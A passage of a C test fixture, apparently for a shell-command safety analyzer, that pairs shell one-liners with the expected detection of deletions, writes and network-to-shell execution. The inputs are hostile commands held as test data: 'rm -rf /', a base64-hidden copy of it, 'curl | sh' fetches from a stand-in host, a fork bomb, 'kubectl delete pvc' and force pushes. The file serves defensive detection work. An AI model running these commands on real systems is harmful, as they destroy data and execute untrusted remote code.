/* SPDX-License-Identifier: ISC */
/* A line, and what it would do; see test_walk.c for the world it is read in.
 * What is read is left out here. */
static const struct line lines[] = {
	{ "rm -rf /",
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "\"r\"m ''x; r\\m $'\\x79'",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "a && kubectl delete pvc x || b & c",
	  "command a\n"
	  "command kubectl delete pvc x\n"
	  "command b\n"
	  "command c\n" },
	{ "! time rm x | cat",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command cat\n" },
	{ "x=rm; $x -rf \"$HOME\"",
	  "command rm -rf /home/u\n"
	  "delete /home/u recursive\n" },
	{ "c='rm -rf a b'; $c",
	  "command rm -rf a b\n"
	  "delete /w/a recursive\n"
	  "delete /w/b recursive\n" },
	{ "$K get pods; \"$NOPE\"rm y",
	  "command kubectl get pods\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "IFS=,; x=rm,-rf,/; $x",
	  "assign IFS=,\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "set -- rm -rf /; \"$@\"",
	  "command set -- rm -rf / [builtin]\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "f() { \"$@\" tail; }; f rm x",
	  "command rm x tail\n"
	  "delete /w/x\n"
	  "delete /w/tail\n" },
	{ "f() { local c=ls; $c; }; c=rm; f; $c y",
	  "command local c=ls [builtin]\n"
	  "command ls\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "a=(rm -rf /); \"${a[@]}\"; ${a[0]} z",
	  "command rm -rf /\n"
	  "delete / recursive\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "declare -A m=([k]=rm); ${m[k]} x",
	  "command declare -A m= [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "declare -n r=x; x=rm; $r foo",
	  "command declare -n r=x [builtin]\n"
	  "command rm foo\n"
	  "delete /w/foo\n" },
	{ "n=x; x=rm; ${!n} y",
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "s=XrmX; ${s//X} a; ${s:1:2} b; ${s#X} c; u=RM; ${u,,} d",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rmX c\n"
	  "command rm d\n"
	  "delete /w/d\n" },
	{ "${x:-rm} a; ${x:=rm} b; $x c; ${x:+ls} d",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rm c\n"
	  "delete /w/c\n"
	  "command ls d\n" },
	{ "printf -v c '%s%s' r m; $c z",
	  "command printf -v c %s%s r m [builtin]\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "read -r a b <<< 'rm -rf /'; $a $b",
	  "command read -r a b [builtin]\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "mapfile -t l <<< 'rm'; \"${l[0]}\" x",
	  "command mapfile -t l [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "{rm,-rf,/}; {r..r}m a{1..3}",
	  "command rm -rf /\n"
	  "delete / recursive\n"
	  "command rm a1 a2 a3\n"
	  "delete /w/a1\n"
	  "delete /w/a2\n"
	  "delete /w/a3\n" },
	{ "rm ~/a ~+/b \"~/c\"",
	  "command rm /home/u/a /w/b ~/c\n"
	  "delete /home/u/a\n"
	  "delete /w/b\n"
	  "delete /w/~/c\n" },
	{ "cd /tmp && rm a; rm b",
	  "command cd /tmp [builtin]\n"
	  "command rm a\n"
	  "delete /tmp/a\n"
	  "command rm b\n"
	  "delete /tmp/b|/w/b\n" },
	{ "cd /tmp || exit; rm a",
	  "command cd /tmp [builtin]\n"
	  "command exit [builtin]\n"
	  "command rm a\n"
	  "delete /tmp/a\n" },
	{ "if t; then c=rm; else c=ls; fi; $c x",
	  "command t\n"
	  "command ls x\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "case $USER in a) x=1;; *) x=2;; esac; rm $x",
	  "command rm 2\n"
	  "delete /w/2\n" },
	{ "case $(id) in a) x=1;; *) x=2;; esac; rm $x",
	  "command id\n"
	  "command rm {2|1}\n"
	  "delete /w/2|/w/1\n" },
	{ "for i in a b; do rm \"$i\"; done",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n" },
	{ "for i in a b; do rm \"$i\"; [ x ] && break; done; rm $i",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command [ x ] [builtin]\n"
	  "command break [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n" },
	{ "for i in a b; do rm \"$i\"; [ -f x ] && break; done; rm $i",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command [ -f x ] [builtin]\n"
	  "command break [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command [ -f x ] [builtin]\n"
	  "command break [builtin]\n"
	  "command rm {b|a}\n"
	  "delete /w/b|/w/a\n" },
	{ "t && x=kubectl; $x delete y",
	  "command t\n"
	  "command kubectl delete y\n"
	  "command delete y\n" },
	{ "t && x='kubectl delete'; $x y",
	  "command t\n"
	  "command kubectl delete y\n"
	  "command y\n" },
	{ "t && x=kube; ${x}ctl delete y",
	  "command t\n"
	  "command kubectl delete y\n"
	  "command ctl delete y\n" },
	{ "t && a=(kubectl delete); \"${a[@]}\" y",
	  "command t\n"
	  "command kubectl delete y\n"
	  "command y\n" },
	{ "if t; then x=kubectl; else x=$(u); fi; $x delete y",
	  "command t\n"
	  "command u\n"
	  "unknown command from u\n"
	  "command kubectl delete y\n" },
	{ "if t; then set -- a b; else set -- c; fi; u \"$1\" \"$@\"",
	  "command t\n"
	  "command set -- a b [builtin]\n"
	  "command set -- c [builtin]\n"
	  "command u {c|a} {c|a} ?..\n" },
	{ "case a in a) x=rm;;& *) $x y;; esac; $x z",
	  "command rm y\n"
	  "delete /w/y\n"
	  "command y\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "case ab in a*) x=1;; *) x=2; rm n;; esac; rm $x",
	  "command rm n\n"
	  "delete /w/n\n"
	  "command rm 1\n"
	  "delete /w/1\n" },
	{ "a=(p q r); unset 'a[1]'; rm \"${a[@]}\"",
	  "command unset a[1] [builtin]\n"
	  "command rm p r\n"
	  "delete /w/p\n"
	  "delete /w/r\n" },
	{ "x=y; declare -n r=x; unset -n r; rm $x",
	  "command declare -n r=x [builtin]\n"
	  "command unset -n r [builtin]\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "for f in *.txt; do : \"$f\" \"${f%.txt}.bak\"; done",
	  "command : *.txt ?.bak [builtin]\n" },
	{ "i=0; while [ $i -lt 3 ]; do i=$((i+1)); rm \"f$i\"; done",
	  "command [ 0 -lt 3 ] [builtin]\n"
	  "command rm f1\n"
	  "delete /w/f1\n"
	  "command [ 1 -lt 3 ] [builtin]\n"
	  "command rm f2\n"
	  "delete /w/f2\n"
	  "command [ 2 -lt 3 ] [builtin]\n"
	  "command rm f3\n"
	  "delete /w/f3\n"
	  "command [ 3 -lt 3 ] [builtin]\n" },
	{ "i=0; while [ $i -lt 300 ]; do i=$((i+1)); rm \"f$i\"; done",
	  "command [ ? -lt 300 ] [builtin]\n"
	  "command rm f?\n"
	  "delete f?\n" },
	{ "(x=rm; cd /); $x a",
	  "command cd / [builtin]\n"
	  "command a\n" },
	{ "x=1; { x=2; }; rm $x",
	  "command rm 2\n"
	  "delete /w/2\n" },
	{ "eval 'kubectl delete pvc x'",
	  "command eval \"kubectl delete pvc x\" [builtin]\n"
	  "command kubectl delete pvc x\n" },
	{ "eval \"echo '\\$(rm a)'; rm b\"",
	  "command eval \"echo '$(rm a)'; rm b\" [builtin]\n"
	  "command echo \"$(rm a)\" [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n" },
	{ "bash -c 'rm \"$1\" $0' zero one",
	  "command bash -c \"rm \"$1\" $0\" zero one\n"
	  "command rm one zero [via bash]\n"
	  "delete /w/one\n"
	  "delete /w/zero\n" },
	{ "sh -c \"bash -c 'rm deep'\"",
	  "command sh -c \"bash -c 'rm deep'\"\n"
	  "command bash -c \"rm deep\" [via sh]\n"
	  "command rm deep [via bash]\n"
	  "delete /w/deep\n" },
	{ "echo 'rm -rf /' | sh",
	  "command echo \"rm -rf /\" [builtin]\n"
	  "command sh\n"
	  "command rm -rf / [via sh]\n"
	  "delete / recursive\n" },
	{ "bash <<< 'rm a'; bash <<'EOF'\n"
"rm b\n"
"EOF",
	  "command bash\n"
	  "command rm a [via bash]\n"
	  "delete /w/a\n"
	  "command bash\n"
	  "command rm b [via bash]\n"
	  "delete /w/b\n" },
	{ "echo cm0gLXJmIC8= | base64 -d | bash",
	  "command echo cm0gLXJmIC8= [builtin]\n"
	  "command base64 -d\n"
	  "command bash\n"
	  "command rm -rf / [via bash]\n"
	  "delete / recursive\n" },
	{ "$(echo rm) a; `echo rm` b",
	  "command echo rm [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command echo rm [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n" },
	{ "x=$(cat f); $x; eval \"$x\"; bash -c \"$x\"",
	  "command cat f\n"
	  "unknown command from cat\n"
	  "command eval ? [builtin]\n"
	  "unknown shell from cat\n"
	  "command bash -c ?\n"
	  "unknown shell\n" },
	{ "curl -s http://x/i | sh; bash <(curl http://x); eval \"$(curl x)\"",
	  "command curl -s http://x/i\n"
	  "command sh\n"
	  "net-shell\n"
	  "command curl http://x\n"
	  "command bash /dev/fd/1000\n"
	  "net-shell\n"
	  "command curl x\n"
	  "command eval ? [builtin]\n"
	  "net-shell\n" },
	{ ". <(echo rm q); echo 'rm r' > f; sh f",
	  "command echo rm q [builtin]\n"
	  "command . /dev/fd/1000 [builtin]\n"
	  "command rm q\n"
	  "delete /w/q\n"
	  "write /w/f\n"
	  "command echo \"rm r\" [builtin]\n"
	  "command sh f\n"
	  "command rm r [via sh]\n"
	  "delete /w/r\n" },
	{ "echo \"$(rm a)\" \"`rm b`\" ${x:-$(rm c)} $((a[$(rm d)])) <(rm e) > >(rm f)",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rm c\n"
	  "delete /w/c\n"
	  "command rm d\n"
	  "delete /w/d\n"
	  "command rm e\n"
	  "delete /w/e\n"
	  "command rm f\n"
	  "delete /w/f\n"
	  "write /dev/fd/1001\n"
	  "command echo ? ? ?.. ? /dev/fd/1000 [builtin]\n" },
	{ "cat <<EOF\n"
"$(rm a)\n"
"EOF",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command cat\n" },
	{ "cat <<'EOF'\n"
"$(rm a)\n"
"EOF",
	  "command cat\n" },
	{ "[[ -v 'a[$(rm x)]' ]]; test -v 'b[$(rm y)]'; let 'c[$(rm z)]=1'",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command test -v \"b[$(rm y)]\" [builtin]\n"
	  "command rm y\n"
	  "delete /w/y\n"
	  "command let \"c[$(rm z)]=1\" [builtin]\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "x='$(rm a)'; : \"${x@P}\"; PS4='$(rm b)'; set -x",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command : ? [builtin]\n"
	  "assign PS4=\"$(rm b)\"\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command set -x [builtin]\n" },
	{ "trap 'rm \"$t\"' EXIT; t=$(mktemp)",
	  "command trap \"rm \"$t\"\" EXIT [builtin]\n"
	  "command mktemp\n"
	  "command rm /tmp/?\n"
	  "delete /tmp/?\n" },
	{ "t=$(mktemp -d); rm -rf \"$t\"; echo > \"$t/x\"",
	  "command mktemp -d\n"
	  "command rm -rf /tmp/?\n"
	  "delete /tmp/? recursive\n"
	  "write /tmp/?/x\n"
	  "command echo [builtin]\n" },
	{ "sleep 1 & kill $!; kill %1; kill $$; kill 99; kill \"$p\"; kill $(pgrep x); kill -0 5",
	  "command sleep 1\n"
	  "command kill ? [builtin]\n"
	  "signal ? own\n"
	  "command kill %1 [builtin]\n"
	  "signal %1 own\n"
	  "command kill 4711 [builtin]\n"
	  "signal 4711 own\n"
	  "command kill 99 [builtin]\n"
	  "signal 99 other\n"
	  "command kill \"\" [builtin]\n"
	  "signal \"\" own\n"
	  "command pgrep x\n"
	  "command kill ?.. [builtin]\n"
	  "signal ?.. unknown\n"
	  "command kill -0 5 [builtin]\n" },
	{ "echo x > a; echo y >> /b; : > \"$HOME/e\"",
	  "write /w/a\n"
	  "command echo x [builtin]\n"
	  "write /b append\n"
	  "command echo y [builtin]\n"
	  "write /home/u/e\n"
	  "command : [builtin]\n" },
	{ "x=$(cat f); echo > \"$x\"; for i in 1 2; do echo > \"$i.log\"; done; echo > \"log-$x\"",
	  "command cat f\n"
	  "write ?\n"
	  "unknown target from cat\n"
	  "command echo [builtin]\n"
	  "write /w/1.log\n"
	  "command echo [builtin]\n"
	  "write /w/2.log\n"
	  "command echo [builtin]\n"
	  "write log-?\n"
	  "command echo [builtin]\n" },
	{ "PATH=/evil:$PATH ls; export A=1; PATH=/x",
	  "assign PATH=/evil:/usr/bin:/bin\n"
	  "command PATH=/evil:/usr/bin:/bin ls\n"
	  "command export A=1 [builtin]\n"
	  "assign A=1\n"
	  "assign PATH=/x\n" },
	{ "command rm a; builtin eval 'rm b'; exec rm c",
	  "command command rm a [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command builtin eval \"rm b\" [builtin]\n"
	  "command eval \"rm b\" [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command exec rm c [builtin]\n"
	  "command rm c\n"
	  "delete /w/c\n" },
	{ "psql -c 'drop table x'; psql <<< 'delete from t'",
	  "command psql -c \"drop table x\"\n"
	  "sql DROP TABLE x\n"
	  "command psql\n"
	  "sql DELETE TABLE t\n" },
	{ "x=$(cat f); psql -c \"$x\"; cat dump | psql",
	  "command cat f\n"
	  "command psql -c ?\n"
	  "unknown sql from cat\n"
	  "command cat dump\n"
	  "command psql\n"
	  "unknown sql from cat\n" },
	{ "r() { r; }; r",
	  "" },
	{ ":(){ :|:& };:",
	  "unknown endless\n" },
	{ "alias k=kubectl\n"
"k delete pvc x",
	  "command alias k=kubectl [builtin]\n"
	  "command kubectl delete pvc x\n"
	  "command k delete pvc x\n" },
	{ "eval 'echo \"unclosed'",
	  "command eval \"echo \"unclosed\" [builtin]\n"
	  "status 1 nested\n" },
	{ "echo 'DROP TABLE x; kubectl delete pvc x' 'rm -rf /'",
	  "command echo \"DROP TABLE x; kubectl delete pvc x\" \"rm -rf /\" [builtin]\n" },
	{ "git commit -m \"$(cat <<'EOF'\n"
"git push --force origin main\n"
"EOF\n"
")\"",
	  "command cat\n"
	  "command git commit -m \"git push --force origin main\"\n" },
	{ "cd \"$(git rev-parse --show-toplevel)\" && make",
	  "command git rev-parse --show-toplevel\n"
	  "command cd ? [builtin]\n"
	  "command make\n" },
	{ "x=$(cat f); cat $x \"$x\" ; ls $(x) \"$@\" $*",
	  "command cat f\n"
	  "command cat ?.. ?\n"
	  "command x\n"
	  "command ls ?..\n" },
	{ "set -e; cd nowhere; rm a",
	  "command set -e [builtin]\n"
	  "command cd nowhere [builtin]\n"
	  "command rm a\n"
	  "delete /w/nowhere/a\n" },
	{ "hash -p /bin/rm ok; ok x",
	  "command hash -p /bin/rm ok [builtin]\n"
	  "command /bin/rm x\n"
	  "delete /w/x\n" },
	{ "coproc rm z; select v in a; do rm $v; done; until t; do rm u; done",
	  "command rm z\n"
	  "delete /w/z\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm\n"
	  "command t\n"
	  "command rm u\n"
	  "delete /w/u\n" },
	{ ": ${x:=$(rm a)} | cat; echo ${#x} $# $?",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command : ?.. [builtin]\n"
	  "command cat\n"
	  "command echo 0 0 ? [builtin]\n" },
	{ "declare -i i='a[$(rm x)]'",
	  "command declare -i \"i=a[$(rm x)]\" [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ ": d && cd $_ && rm a",
	  "command : d [builtin]\n"
	  "command cd d [builtin]\n"
	  "command rm a\n"
	  "delete /w/d/a\n" },
	{ "rm \"a b\" c\\ d $'e\\tf'",
	  "command rm \"a b\" \"c d\" \"e\\tf\"\n"
	  "delete /w/a b\n"
	  "delete /w/c d\n"
	  "delete /w/e\\tf\n" },
	{ "sudo -u bob rm -rf /x; sudo FOO=1 rm y; doas rm z; sudo -- rm q; sudo -iu root rm i",
	  "command sudo -u bob rm -rf /x\n"
	  "command rm -rf /x [via sudo]\n"
	  "delete /x recursive\n"
	  "command sudo FOO=1 rm y\n"
	  "assign FOO=1\n"
	  "command rm y [via sudo]\n"
	  "delete /w/y\n"
	  "command doas rm z\n"
	  "command rm z [via doas]\n"
	  "delete /w/z\n"
	  "command sudo -- rm q\n"
	  "command rm q [via sudo]\n"
	  "delete /w/q\n"
	  "command sudo -iu root rm i\n"
	  "command rm i [via sudo]\n"
	  "delete /w/i\n" },
	{ "env -i A=1 rm x; env -S 'rm y'; env -C /tmp rm z; nohup rm a & nice -n 5 rm b",
	  "command env -i A=1 rm x\n"
	  "assign A=1\n"
	  "command rm x [via env]\n"
	  "delete /w/x\n"
	  "command env -S \"rm y\"\n"
	  "command rm y [via env]\n"
	  "delete /w/y\n"
	  "command env -C /tmp rm z\n"
	  "command rm z [via env]\n"
	  "delete /tmp/z\n"
	  "command nohup rm a\n"
	  "command rm a [via nohup]\n"
	  "delete /w/a\n"
	  "command nice -n 5 rm b\n"
	  "command rm b [via nice]\n"
	  "delete /w/b\n" },
	{ "timeout 5 rm a; timeout -s KILL 5m rm b; stdbuf -oL rm c; setsid rm d; time -p rm e; flock /l rm f; flock /l -c 'rm g'",
	  "command timeout 5 rm a\n"
	  "command rm a [via timeout]\n"
	  "delete /w/a\n"
	  "command timeout -s KILL 5m rm b\n"
	  "command rm b [via timeout]\n"
	  "delete /w/b\n"
	  "command stdbuf -oL rm c\n"
	  "command rm c [via stdbuf]\n"
	  "delete /w/c\n"
	  "command setsid rm d\n"
	  "command rm d [via setsid]\n"
	  "delete /w/d\n"
	  "command rm e\n"
	  "delete /w/e\n"
	  "command flock /l rm f\n"
	  "command rm f [via flock]\n"
	  "delete /w/f\n"
	  "command flock /l -c \"rm g\"\n"
	  "command rm g [via flock]\n"
	  "delete /w/g\n" },
	{ "ls | xargs rm; echo a b | xargs rm -f; echo x | xargs -I{} rm d/{}; xargs -n1 -a f rm; echo x | xargs -I{} sh -c 'rm {}'",
	  "command ls\n"
	  "command xargs rm\n"
	  "command rm ?.. + [via xargs]\n"
	  "delete ?..\n"
	  "command echo a b [builtin]\n"
	  "command xargs rm -f\n"
	  "command rm -f a b [via xargs]\n"
	  "delete /w/a\n"
	  "delete /w/b\n"
	  "command echo x [builtin]\n"
	  "command xargs -I{} rm d/{}\n"
	  "command rm d/x [via xargs]\n"
	  "delete /w/d/x\n"
	  "command xargs -n1 -a f rm\n"
	  "command rm ?.. + [via xargs]\n"
	  "delete ?..\n"
	  "command echo x [builtin]\n"
	  "command xargs -I{} sh -c \"rm {}\"\n"
	  "command sh -c \"rm x\" [via xargs]\n"
	  "command rm x [via sh]\n"
	  "delete /w/x\n" },
	{ "find . -name '*.o' -exec rm {} +; find /tmp -delete; find a b -execdir sh -c 'rm \"$1\"' _ {} \\; -print",
	  "command find . -name *.o -exec rm {} +\n"
	  "command rm {./**/*.o|.?} + [via find]\n"
	  "delete /w/**/*.o|?\n"
	  "command find /tmp -delete\n"
	  "delete /tmp recursive\n"
	  "command find a b -execdir sh -c \"rm \"$1\"\" _ {} ; -print\n"
	  "command sh -c \"rm \"$1\"\" _ {a/**|b/**|a?|b?} + [via find]\n"
	  "command rm {a/**|b/**|a?|b?} [via sh]\n"
	  "delete /w/a/**|/w/b/**|?\n" },
	{ "find a \"$x\" -name b -exec rm {} +; find . ! -name b -exec rm {} +; kill $(jobs -p)",
	  "command find a \"\" -name b -exec rm {} +\n"
	  "command rm {a?|?} + [via find]\n"
	  "delete {a?|?}\n"
	  "command find . ! -name b -exec rm {} +\n"
	  "command rm {./**|.?} + [via find]\n"
	  "delete /w/**|?\n"
	  "command jobs -p [builtin]\n"
	  "command kill ?.. [builtin]\n"
	  "signal ?.. own\n" },
	{ "ssh h 'rm -rf x'; ssh -p 22 u@h -- rm y; ssh h <<< 'rm z'; ssh h \"rm $HOME/w\"",
	  "command ssh h \"rm -rf x\"\n"
	  "command rm -rf x [host h] [via ssh]\n"
	  "delete x recursive [host h]\n"
	  "command ssh -p 22 u@h -- rm y\n"
	  "command rm y [host u@h] [via ssh]\n"
	  "delete y [host u@h]\n"
	  "command ssh h\n"
	  "command rm z [host h] [via ssh]\n"
	  "delete z [host h]\n"
	  "command ssh h \"rm /home/u/w\"\n"
	  "command rm /home/u/w [host h] [via ssh]\n"
	  "delete /home/u/w [host h]\n" },
	{ "docker exec -it c rm a; docker run --rm img sh -c 'rm b'; kubectl exec -n p pod -- rm c",
	  "command docker exec -it c rm a\n"
	  "command rm a [container c] [via docker]\n"
	  "delete a [container c]\n"
	  "command docker run --rm img sh -c \"rm b\"\n"
	  "command sh -c \"rm b\" [container] [via docker]\n"
	  "command rm b [container] [via sh]\n"
	  "delete b [container]\n"
	  "command kubectl exec -n p pod -- rm c\n"
	  "command rm c [container pod] [via kubectl]\n"
	  "delete c [container pod]\n" },
	{ "su -c 'rm a' bob; su - bob -c 'rm b'; chroot /m rm c; unshare -r rm d; nsenter -t 1 -m rm e",
	  "command su -c \"rm a\" bob\n"
	  "command rm a [via su]\n"
	  "delete /w/a\n"
	  "command su - bob -c \"rm b\"\n"
	  "command rm b [via su]\n"
	  "delete /w/b\n"
	  "command chroot /m rm c\n"
	  "command rm c [via chroot]\n"
	  "delete /m/c\n"
	  "command unshare -r rm d\n"
	  "command rm d [via unshare]\n"
	  "delete /w/d\n"
	  "command nsenter -t 1 -m rm e\n"
	  "command rm e [via nsenter]\n"
	  "delete /w/e\n" },
	{ "watch -n1 'rm a'; script -c 'rm b' f; tmux send-keys -t x 'rm c' Enter; tmux new -d 'rm d'; screen -dm rm e",
	  "command watch -n1 \"rm a\"\n"
	  "command rm a [via watch]\n"
	  "delete /w/a\n"
	  "command script -c \"rm b\" f\n"
	  "write /w/f\n"
	  "command rm b [via script]\n"
	  "delete /w/b\n"
	  "command tmux send-keys -t x \"rm c\" Enter\n"
	  "command rm c [server] [via tmux]\n"
	  "delete c [server]\n"
	  "command tmux new -d \"rm d\"\n"
	  "command rm d [server] [via tmux]\n"
	  "delete d [server]\n"
	  "command screen -dm rm e\n"
	  "command rm e [server] [via screen]\n"
	  "delete e [server]\n" },
	{ "parallel rm ::: a b; ls | parallel rm {}; parallel 'rm {}; ls' ::: x; fd -x rm",
	  "command parallel rm ::: a b\n"
	  "command rm a b [via parallel]\n"
	  "delete /w/a\n"
	  "delete /w/b\n"
	  "command ls\n"
	  "command parallel rm {}\n"
	  "command rm ?.. + [via parallel]\n"
	  "delete ?..\n"
	  "command parallel \"rm {}; ls\" ::: x\n"
	  "command rm x [via parallel]\n"
	  "delete /w/x\n"
	  "command ls [via parallel]\n"
	  "command fd -x rm\n"
	  "command rm + [via fd]\n" },
	{ "python3 -c \"import os; os.system('rm a')\"; perl -e 'system(\"rm b\")'; ruby -e '`rm c`'; node -e 'require(\"child_process\").execSync(\"rm d\")'; awk 'BEGIN{system(\"rm e\")}'",
	  "command python3 -c \"import os; os.system('rm a')\"\n"
	  "command rm a [via python3]\n"
	  "delete /w/a\n"
	  "command perl -e \"system(\"rm b\")\"\n"
	  "command rm b [via perl]\n"
	  "delete /w/b\n"
	  "command ruby -e \"`rm c`\"\n"
	  "command rm c [via ruby]\n"
	  "delete /w/c\n"
	  "command node -e \"require(\"child_process\").execSync(\"rm d\")\"\n"
	  "command rm d [via node]\n"
	  "delete /w/d\n"
	  "command awk \"BEGIN{system(\"rm e\")}\"\n"
	  "command rm e [via awk]\n"
	  "delete /w/e\n" },
	{ "python3 -c \"import subprocess; subprocess.run(['rm','f'])\"; python3 - <<'E'\n"
"import os\n"
"os.system(\"rm g\")\n"
"E",
	  "command python3 -c \"import subprocess; subprocess.run(['rm','f'])\"\n"
	  "command rm f [via python3]\n"
	  "delete /w/f\n"
	  "command python3 -\n"
	  "command rm g [via python3]\n"
	  "delete /w/g\n" },
	{ "python3 -c \"print(1)\"; perl -ne 'print if /x/' f; awk '{print $1}' f; sed -n 1p f; node -e 'console.log(1)'",
	  "command python3 -c print(1)\n"
	  "command perl -ne \"print if /x/\" f\n"
	  "command awk \"{print $1}\" f\n"
	  "command sed -n 1p f\n"
	  "command node -e console.log(1)\n" },
	{ "curl -o f http://x && sh f; wget -qO- http://x | bash; curl http://x | python3; curl http://x | tee f | sh",
	  "command curl -o f http://x\n"
	  "write /w/f\n"
	  "command sh f\n"
	  "net-shell\n"
	  "command wget -qO- http://x\n"
	  "command bash\n"
	  "net-shell\n"
	  "command curl http://x\n"
	  "command python3\n"
	  "net-shell\n"
	  "command curl http://x\n"
	  "command tee f\n"
	  "write /w/f\n"
	  "command sh\n"
	  "net-shell\n" },
	{ "at now <<< 'rm a'; echo 'rm b' | at 5pm; systemd-run rm c; crontab - <<< '* * * * * rm d'",
	  "command at now\n"
	  "command rm a [deferred] [via at]\n"
	  "delete /w/a [deferred]\n"
	  "command echo \"rm b\" [builtin]\n"
	  "command at 5pm\n"
	  "command rm b [deferred] [via at]\n"
	  "delete /w/b [deferred]\n"
	  "command systemd-run rm c\n"
	  "command rm c [deferred] [via systemd-run]\n"
	  "delete /w/c [deferred]\n"
	  "command crontab -\n"
	  "command rm d [deferred] [via crontab]\n"
	  "delete /w/d [deferred]\n" },
	{ "busybox rm a; busybox sh -c 'rm b'; /lib64/ld-linux-x86-64.so.2 /bin/rm c; strace -f rm d; gdb --args rm e",
	  "command busybox rm a\n"
	  "command rm a [via busybox]\n"
	  "delete /w/a\n"
	  "command busybox sh -c \"rm b\"\n"
	  "command sh -c \"rm b\" [via busybox]\n"
	  "command rm b [via sh]\n"
	  "delete /w/b\n"
	  "command /lib64/ld-linux-x86-64.so.2 /bin/rm c\n"
	  "command /bin/rm c [via /lib64/ld-linux-x86-64.so.2]\n"
	  "delete /w/c\n"
	  "command strace -f rm d\n"
	  "command rm d [via strace]\n"
	  "delete /w/d\n"
	  "command gdb --args rm e\n"
	  "command rm e [via gdb]\n"
	  "delete /w/e\n" },
	{ "env -S'rm -f' a; env - A=1 rm b; echo 'rm c' | xargs -I{} sh -c '{}'; parallel ::: 'rm d'",
	  "command env \"-Srm -f\" a\n"
	  "command rm -f a [via env]\n"
	  "delete /w/a\n"
	  "command a [via env]\n"
	  "command env - A=1 rm b\n"
	  "assign A=1\n"
	  "command rm b [via env]\n"
	  "delete /w/b\n"
	  "command echo \"rm c\" [builtin]\n"
	  "command xargs -I{} sh -c {}\n"
	  "command sh -c \"rm c\" [via xargs]\n"
	  "command rm c [via sh]\n"
	  "delete /w/c\n"
	  "command parallel ::: \"rm d\"\n"
	  "command rm d [via parallel]\n"
	  "delete /w/d\n" },
	{ "perl -e 'system(q(rm e)); open(F, \"rm f |\"); system(qw(rm g))'; awk 'BEGIN { print 1 | \"rm h\" }'; ruby -e '%x(rm i)'; python3 -c 'import os as o; o.execvp(\"rm\", [\"rm\", \"j\"])'",
	  "command perl -e \"system(q(rm e)); open(F, \"rm f |\"); system(qw(rm g))\"\n"
	  "command rm e [via perl]\n"
	  "delete /w/e\n"
	  "command rm f [via perl]\n"
	  "delete /w/f\n"
	  "command rm [via perl]\n"
	  "command rm g [via perl]\n"
	  "delete /w/g\n"
	  "command awk \"BEGIN { print 1 | \"rm h\" }\"\n"
	  "command rm h [via awk]\n"
	  "delete /w/h\n"
	  "command ruby -e \"%x(rm i)\"\n"
	  "command rm i [via ruby]\n"
	  "delete /w/i\n"
	  "command python3 -c \"import os as o; o.execvp(\"rm\", [\"rm\", \"j\"])\"\n"
	  "command rm j [via python3]\n"
	  "delete /w/j\n" },
	{ "shopt -s expand_aliases\nalias a='rm ' b='x '\na b y; git-push -f origin main",
	  "command shopt -s expand_aliases [builtin]\n"
	  "command alias \"a=rm \" \"b=x \" [builtin]\n"
	  "command rm x y\n"
	  "delete /w/x\n"
	  "delete /w/y\n"
	  "command a b y\n"
	  "command git push -f origin main\n" },
	{ "git -C /d push -f origin main; git -c alias.x='!rm a' x; git submodule foreach 'rm b'; git rebase -x 'rm c' m; git bisect run rm d",
	  "command git -C /d push -f origin main\n"
	  "command git -c \"alias.x=!rm a\" x\n"
	  "command rm a [via git]\n"
	  "delete /w/a\n"
	  "command git submodule foreach \"rm b\"\n"
	  "command rm b [via git]\n"
	  "delete /w/b\n"
	  "command git rebase -x \"rm c\" m\n"
	  "command rm c [via git]\n"
	  "delete /w/c\n"
	  "command git bisect run rm d\n"
	  "command rm d [via git]\n"
	  "delete /w/d\n" },
	{ "npm run build; npx rimraf x; poetry run rm a; uv run rm b; bundle exec rm c; cargo run -- rm d; make -j4 CC=gcc all",
	  "command npm run build\n"
	  "command npx rimraf x\n"
	  "command rimraf x [via npx]\n"
	  "command poetry run rm a\n"
	  "command rm a [via poetry]\n"
	  "delete /w/a\n"
	  "command uv run rm b\n"
	  "command rm b [via uv]\n"
	  "delete /w/b\n"
	  "command bundle exec rm c\n"
	  "command rm c [via bundle]\n"
	  "delete /w/c\n"
	  "command cargo run -- rm d\n"
	  "command make -j4 CC=gcc all\n" },
	{ "eval \"$(ssh-agent -s)\"; eval \"$(direnv hook bash)\"",
	  "command ssh-agent -s\n"
	  "command eval ? [builtin]\n"
	  "unknown shell from ssh-agent\n"
